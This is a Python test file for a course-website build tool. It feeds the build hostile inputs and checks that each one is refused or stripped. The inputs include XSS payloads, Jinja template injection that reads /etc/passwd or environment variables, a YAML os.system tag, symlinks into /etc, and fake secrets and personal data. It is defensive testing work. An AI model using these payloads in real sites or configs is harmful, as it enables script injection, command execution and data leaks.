"""Hostile and careless inputs, each built for real: the build either refuses it, naming
the file and keeping the last good site, or publishes nothing hostile or private.

Every case asserts on what is published (pages, search index, sitemap), not only on
the exit status.
"""

from __future__ import annotations

import contextlib
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from PIL import Image

from factory import Course, tree_hash

REFUSED, CLEAN, EITHER = "refused", "clean", "either"


@dataclass(frozen=True)
class Case:
    name: str
    setup: Callable[[Course], None]
    outcome: str  # REFUSED: the build stops and names the file; CLEAN: it builds and none of `absent` is published
    absent: tuple[str, ...] = ()
    names: str = ""  # what the message must name when refused
    ci: bool = False  # run as CI does (the CI environment variable set)
    also: Callable[[Path], None] | None = None  # a further look at the built site


def body(text: str, folder: str = "01-test", **meta: object) -> Callable[[Course], None]:
    return lambda course: course.module(folder=folder, body=text, **meta) and None


def doc(name: str, text: str) -> Callable[[Course], None]:
    return lambda course: course.write(f"docs/{name}", text) and None


def both(*steps: Callable[[Course], None]) -> Callable[[Course], None]:
    def run(course: Course) -> None:
        for step in steps:
            step(course)

    return run


def ok_module(course: Course) -> None:
    course.module(body="## Fine\n\nA fine page.\n")


def symlink(rel: str, target: str) -> Callable[[Course], None]:
    def run(course: Course) -> None:
        ok_module(course)
        path = course.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        os.symlink(target, path)

    return run


def exif_photo(course: Course) -> None:
    course.module(body="## Photo\n\n![A ward](ward.jpg)\n")
    image = Image.new("RGB", (20, 20), (200, 10, 10))
    exif = Image.Exif()
    exif[0x013B] = "Jane Patient"  # Artist
    exif[0x010E] = "Home of Jane Patient"  # ImageDescription
    image.save(course.root / "modules/01-test/ward.jpg", exif=exif.tobytes())


def write_bytes(rel: str, data: bytes) -> Callable[[Course], None]:
    def run(course: Course) -> None:
        path = course.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    return run


def config(**changes: object) -> Callable[[Course], None]:
    def run(course: Course) -> None:
        ok_module(course)
        course.config.update(changes)
        course.write_config()

    return run


def raw_config(text: str) -> Callable[[Course], None]:
    def run(course: Course) -> None:
        ok_module(course)
        path = course.root / "mkdocs.yml"
        path.write_text(path.read_text() + text)

    return run


def plugin_options(**options: object) -> Callable[[Course], None]:
    def run(course: Course) -> None:
        ok_module(course)
        course.config["plugins"][2]["sidebyside"].update(options)
        course.write_config()

    return run


def git_config(course: Course) -> None:
    write_bytes(".git/config", b"[remote]\n\turl = https://x-access-token:ghs_SECRET_TOKEN_1234@github.com/o/r\n")(course)


def with_handouts(course: Course) -> None:
    git_config(course)
    course.config["plugins"][2]["sidebyside"]["handouts"] = True
    course.write_config()


def with_offline_copy(course: Course) -> None:
    course.config["plugins"][2]["sidebyside"]["offline_copy"] = True
    course.write_config()


def web_only_story(course: Course) -> None:
    consent = {"recorded": "2026-01-10", "ref": "CONSENT-2026-002", "scope": ["web"], "expires": "2029-01-10"}
    course.module(body='## Fine\n\n{{ story("web-only") }}\n')
    course.story("web-only", title="Zebedee's day", body="Zebedee told us this.\n", kind="real", consent=consent)
    with_offline_copy(course)


def zip_lacks(*texts: str) -> Callable[[Path], None]:
    def look(site: Path) -> None:
        (found,) = (site / "handouts").glob("*offline*.zip")
        with zipfile.ZipFile(found) as archive:
            inside = "".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist())
        assert any(n.endswith("/index.html") for n in archive.namelist())
        for text in texts:
            assert text not in inside, f"{text!r} is in the offline copy"

    return look


def glossary_yaml_escape(course: Course) -> None:
    ok_module(course)
    course.write("glossary/sneaky.md", '---\nterm: sneaky\nplain: "\\x7b\\x7b config.site_name \\x7d\\x7d secret"\n---\n')


PHONE = "07700 900461"
LONG = 990_000  # a content file must be under 1 MB, so a line this long fits in one
CASES = [
    # --- unsafe HTML in pages ---------------------------------------------------------------
    Case("script tag", body("Hi <script>alert(1)</script>\n"), REFUSED, ("alert(1)",), "modules/01-test/index.md"),
    Case("img handler split over lines", body('<img src="x.png"\nonerror="alert(2)">\n'), REFUSED, ("alert(2)",)),
    Case("attr list handler", body('A paragraph.\n{onclick="alert(3)"}\n'), REFUSED, ("alert(3)",)),
    Case("entity in javascript link", body("[Click](java&#10;script:alert(4))\n"), REFUSED, ("alert(4)",)),
    Case("reference link on next line", body("[Click][x]\n\n[x]:\n    javascript:alert(5)\n"), REFUSED, ("alert(5)",)),
    Case(
        "svg animate href",
        body('<svg><a><animate attributeName="href" values="javascript:alert(6)"/><text y="20">x</text></a></svg>\n'),
        REFUSED,
        ("alert(6)",),
    ),
    Case("iframe srcdoc", body('<iframe srcdoc="<script>alert(7)</script>"></iframe>\n'), REFUSED, ("alert(7)",)),
    Case("meta refresh", body('<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'), REFUSED, ("evil.example",)),
    Case(
        "full screen overlay",
        body('<div style="position:fixed;top:0;left:0;width:100%;height:100%">Log in again</div>\n'),
        REFUSED,
        ("position:fixed",),
    ),
    Case("tracking pixel", body('<img src="https://tracker.example/p.gif" alt="">\n'), REFUSED, ("tracker.example",)),
    Case("object embed", body('<object data="x.swf"></object><embed src="y.swf">\n'), REFUSED, ("x.swf", "y.swf")),
    Case("form", body('<form action="https://evil.example/"><input name="pw"></form>\n'), REFUSED, ("evil.example",)),
    Case("base tag", body('<base href="https://evil.example/">\n'), REFUSED, ("evil.example",)),
    Case("style tag", body("<style>body{display:none}</style>\n"), REFUSED, ("display:none",)),
    Case("data html link", body("[Open](data:text/html;base64,PHNjcmlwdD4=)\n"), REFUSED, ("data:text/html",)),
    Case("vbscript link", body('<a href="vbscript:msgbox(8)">x</a>\n'), REFUSED, ("msgbox(8)",)),
    Case("foreign object", body('<svg><foreignObject><p onclick="alert(9)">x</p></foreignObject></svg>\n'), REFUSED, ("alert(9)",)),
    Case("details ontoggle", body('<details open ontoggle="alert(10)"><summary>x</summary>y</details>\n'), REFUSED, ("alert(10)",)),
    Case(
        "javascript in sources",
        body("Fine.\n", sources=[{"title": "A source", "url": "javascript:alert(11)", "accessed": "2026-11-01"}]),
        REFUSED,
        ("alert(11)",),
    ),
    Case("template tag", body("<template><img src=x onerror=alert(12)></template>\n"), REFUSED, ("alert(12)",)),
    Case(
        "story with script",
        both(ok_module, lambda c: c.story("bad", body="<script>alert(13)</script>\n") and None),
        REFUSED,
        ("alert(13)",),
    ),
    Case(
        "glossary with script",
        both(ok_module, lambda c: c.term("bad", "bad word", "Plain.", body="<script>alert(14)</script>\n") and None),
        REFUSED,
        ("alert(14)",),
    ),
    Case("docs page with script", both(ok_module, doc("about.md", "# About\n\n<script>alert(15)</script>\n")), REFUSED, ("alert(15)",)),
    # --- macros -------------------------------------------------------------------------------
    Case("macro builds a script", body('{{ "<scr" ~ "ipt>alert(16)</scr" ~ "ipt>" }}\n'), REFUSED, ("alert(16)",)),
    Case("macro power", body("{{ (9**9)**(9**9) }}\n"), REFUSED),
    Case("macro repeat", body('{{ "ab" * 400000000 }}\n'), REFUSED),
    Case("macro reads config", body("{{ config.site_name }}\n"), REFUSED),
    Case("macro reads environment", body("{{ environ }}\n"), REFUSED),
    Case("macro includes a file", body('{% include "/etc/passwd" %}\n'), REFUSED, ("root:x:",)),
    Case("macro defined", body("{% macro x() %}hi{% endmacro %}{{ x() }}\n"), REFUSED),
    # --- files ----------------------------------------------------------------------------------
    Case("html file in docs", both(ok_module, doc("evil.html", "<script>alert(17)</script>")), REFUSED, ("alert(17)",), "docs/evil.html"),
    Case("js file in docs", both(ok_module, doc("evil.js", "alert(18)")), REFUSED, ("alert(18)",), "docs/evil.js"),
    Case(
        "svg with script in docs",
        both(ok_module, doc("pic.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(19)</script></svg>')),
        REFUSED,
        ("alert(19)",),
    ),
    Case("symlinked docs page", symlink("docs/secret.md", "/etc/hostname"), REFUSED, (), "secret.md"),
    Case("symlinked module image", symlink("modules/01-test/leak.png", "/etc/hostname"), REFUSED, (), "leak.png"),
    Case(
        "pdf left in module",
        both(ok_module, write_bytes("modules/01-test/form.pdf", b"%PDF-1.4 Jane Patient 07700 900461")),
        REFUSED,
        ("Jane Patient",),
        "form.pdf",
    ),
    Case("docx left in module", both(ok_module, write_bytes("modules/01-test/notes.docx", b"PK fake")), REFUSED, (), "notes.docx"),
    Case("photo with hidden name", exif_photo, CLEAN, ("Jane Patient",)),
    # --- personal details ----------------------------------------------------------------------
    Case("phone with non-breaking space", body("Ring Sam on 07700\u00a0900461.\n"), REFUSED, ("900461",)),
    Case("phone 0044", body("Ring Sam on 0044 7700 900461.\n"), REFUSED, ("900461",)),
    Case("phone dotted", body("Ring Sam on 07700.900.461.\n"), REFUSED, ("900.461",)),
    Case("phone wrapped over lines", body("Ring Sam on 07700\n900461 any time.\n"), REFUSED, ("900461",)),
    Case("postcode lower case", body("She lives at sw1a 1aa now.\n"), REFUSED, ("sw1a 1aa",)),
    Case("born in words", body("She was born on 3rd of March 1950 in Leeds.\n"), REFUSED, ("1950",)),
    Case("email", body("Write to jane.patient@example.com today.\n"), REFUSED, ("jane.patient@",)),
    Case("nhs number", body("Her number is 943 476 5919.\n"), REFUSED, ("5919",)),
    Case("phone in summary", body("Fine.\n", summary=f"Call {PHONE} for help."), REFUSED, ("900461",)),
    Case("phone in code", body(f"```\ncall {PHONE}\n```\n"), REFUSED, ("900461",)),
    Case("phone in alt text", body(f"![Call {PHONE}](pic.png)\n"), REFUSED, ("900461",)),
    Case("phone in link title", body(f'[Help](https://www.nhs.uk/ "Call {PHONE}")\n'), REFUSED, ("900461",)),
    Case("phone in docs page", both(ok_module, doc("about.md", f"# About\n\nCall {PHONE}.\n")), REFUSED, ("900461",)),
    Case("phone in glossary", both(ok_module, lambda c: c.term("t", "a term", f"Call {PHONE} for this.") and None), REFUSED, ("900461",)),
    Case("phone in story", both(ok_module, lambda c: c.story("s", body=f"Call me on {PHONE}.\n") and None), REFUSED, ("900461",)),
    # --- configuration --------------------------------------------------------------------------
    Case(
        "python tag",
        raw_config("\nextra:\n  x: !!python/object/apply:os.system ['echo hacked > /tmp/sbs-hacked']\n"),
        REFUSED,
        (),
        "mkdocs.yml",
    ),
    # --- limits -----------------------------------------------------------------------------------
    Case("deep nesting of boxes", body("<div>" * 3000 + "deep" + "</div>" * 3000 + "\n"), REFUSED, (), "modules/01-test/index.md"),
    Case("deep quotes", body(">" * 2000 + " deep\n"), REFUSED, (), "modules/01-test/index.md"),
    Case("line of <a", body(("<a " * (LONG // 3))[:LONG] + "\n"), REFUSED, ("<a <a",), "modules/01-test/index.md"),
    Case("line of brackets", body("[" * LONG + "\n"), REFUSED, ("[[[[",), "modules/01-test/index.md"),
    Case("line of backticks", body("`" * LONG + "\n"), REFUSED, ("````",), "modules/01-test/index.md"),
    Case("unclosed comments", body("<!--" * (LONG // 4) + "\n"), REFUSED, (), "modules/01-test/index.md"),
    Case("deep lists", body("".join("  " * i + "- x\n" for i in range(200))), REFUSED, (), "modules/01-test/index.md"),
    # --- more personal details -------------------------------------------------------------------
    Case(
        "phone as html entities",
        body("Ring &#48;&#55;&#55;&#48;&#48;&#32;&#57;&#48;&#48;&#52;&#54;&#49; now.\n"),
        REFUSED,
        ("900461", "&#57;&#48;&#48;"),
        "modules/01-test/index.md",
    ),
    Case("phone with zero-width spaces", body("Ring 0\u200b7700 9\u200b00461 now.\n"), REFUSED, ("00461",)),
    Case("phone in full-width digits", body("Ring \uff10\uff17\uff17\uff10\uff10 \uff19\uff10\uff10\uff14\uff16\uff11 now.\n"), REFUSED),
    Case("phone in page title", body("Fine.\n", title=f"Ring {PHONE}"), REFUSED, ("900461",)),
    # --- small mistakes -----------------------------------------------------------------------
    Case("nul byte", body("Fine\x00 words.\n"), REFUSED, (), "modules/01-test/index.md"),
    Case(
        ".markdown file",
        both(ok_module, doc("extra.markdown", "# Extra\n\n<script>alert(22)</script>\n")),
        REFUSED,
        ("alert(22)",),
        "extra.markdown",
    ),
    Case(
        "upper-case .MD file",
        both(ok_module, doc("EXTRA.MD", "# Extra\n\n<script>alert(23)</script>\n")),
        REFUSED,
        ("alert(23)",),
        "EXTRA.MD",
    ),
    Case(
        "stories/index.md",
        both(ok_module, lambda c: c.write("stories/index.md", "# Mine\n\nReplaced.\n") and None),
        REFUSED,
        (),
        "stories/index.md",
    ),
    Case("symlinked module folder", symlink("modules/02-elsewhere", "/etc"), REFUSED, ("root:x:",), "modules/02-elsewhere"),
    Case("javascript link with a tab", body("[Click](java\tscript:alert(24))\n"), REFUSED, ("alert(24)",)),
    Case("glossary plain with yaml escape", glossary_yaml_escape, EITHER, ("Test course secret",)),
    # --- files a handout could carry -----------------------------------------------------------
    Case(
        "attachment link",
        both(with_handouts, body("[the settings](../../.git/config){rel=attachment}\n")),
        EITHER,
        ("ghs_SECRET_TOKEN",),
    ),
    Case(
        "link rel attachment tag",
        both(with_handouts, body('<link rel="attachment" href="../../.git/config">\n')),
        EITHER,
        ("ghs_SECRET_TOKEN",),
    ),
    Case("picture of .git", both(with_handouts, body("![settings](../../.git/config)\n")), EITHER, ("ghs_SECRET_TOKEN",)),
    # --- consent -------------------------------------------------------------------------------
    Case("web-only story in the offline copy", web_only_story, CLEAN, (), also=zip_lacks("Zebedee", "web-only")),
    Case("today in mkdocs.yml", plugin_options(today="2020-01-01"), REFUSED, (), "today"),
    # --- configuration in CI -------------------------------------------------------------------
    Case("hooks", config(hooks=["hook.py"]), REFUSED, (), "hooks", ci=True),
    Case("!ENV", raw_config("\nextra:\n  secret: !ENV HOME\n"), REFUSED, (), "!ENV", ci=True),
    Case("snippets", config(markdown_extensions=["pymdownx.snippets", "attr_list", "md_in_html"]), REFUSED, (), "snippets", ci=True),
    Case("theme override", config(theme={"name": "material", "custom_dir": "docs"}), REFUSED, (), "custom_dir", ci=True),
    Case("docs_dir outside", config(docs_dir="/etc"), REFUSED, ("root:x:",), "docs_dir", ci=True),
    Case("checks off", plugin_options(checks=False), REFUSED, (), "checks: false", ci=True),
    Case("unknown plugin", config(plugins=["search", "sidebyside", "git-committers"]), REFUSED, (), "git-committers", ci=True),
]


def _published(site: Path) -> str:
    """Everything a reader can get: pages, search index, sitemap, pictures, the text and
    attachments of every PDF, and every file in the offline zip."""
    texts = []
    for path in site.rglob("*"):
        if path.is_file() and path.suffix in (".html", ".json", ".xml", ".svg", ".js", ".png", ".jpg", ".gif"):
            texts.append(path.read_bytes().decode("utf-8", errors="replace"))
        elif path.suffix == ".pdf":
            texts.append(_pdf_contents(path))
        elif path.suffix == ".zip":
            with zipfile.ZipFile(path) as archive:
                texts += [archive.read(n).decode("utf-8", errors="replace") for n in archive.namelist()]
    return "\n".join(texts)


def _pdf_contents(path: Path) -> str:
    import pikepdf
    from pypdf import PdfReader

    parts = [page.extract_text() or "" for page in PdfReader(path).pages]
    with pikepdf.open(path) as pdf:
        assert "/EmbeddedFiles" not in pdf.Root.get("/Names", {}), f"{path.name} has attachments"
        for page in pdf.pages:
            for annotation in page.get("/Annots", []):
                assert annotation.get("/Subtype") != "/FileAttachment", f"{path.name} has a file attachment"
        for obj in pdf.objects:
            if isinstance(obj, pikepdf.Stream):
                with contextlib.suppress(pikepdf.PdfError):
                    parts.append(obj.read_bytes().decode("latin-1"))
    return "\n".join(parts)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input(tmp_path: Path, case: Case, monkeypatch: pytest.MonkeyPatch) -> None:
    course = Course(tmp_path)
    course.config["plugins"][2]["sidebyside"].update({"handouts": False, "trainer_edition": False})
    course.write_config()
    ok_module(course)
    first = course.build()
    assert first.code == 0, first.text
    before = tree_hash(course.root / "site")
    case.setup(course)
    if case.ci:
        monkeypatch.setenv("CI", "true")
    result = course.run("build", "--strict", timeout=600)
    assert "Traceback" not in result.text and "fault in the tool" not in result.text, result.text
    site = course.root / "site"
    if case.outcome == REFUSED:
        assert result.code != 0, f"{case.name} was published:\n{result.text}"
        assert tree_hash(site) == before, "the last good site was not left whole"
        if case.names:
            assert case.names in result.text, result.text
    elif case.outcome == CLEAN:
        assert result.code == 0, result.text
    elif result.code != 0:  # EITHER: refused as above, or built with nothing hostile in it
        assert tree_hash(site) == before, "the last good site was not left whole"
    if case.also is not None and result.code == 0:
        case.also(site)
    published = _published(site)
    for text in case.absent:
        assert text not in published, f"{case.name}: {text!r} was published"
    assert not Path("/tmp/sbs-hacked").exists()


def test_the_table_covers_the_kinds_of_hostile_input() -> None:
    assert len({c.name for c in CASES}) == len(CASES) >= 60
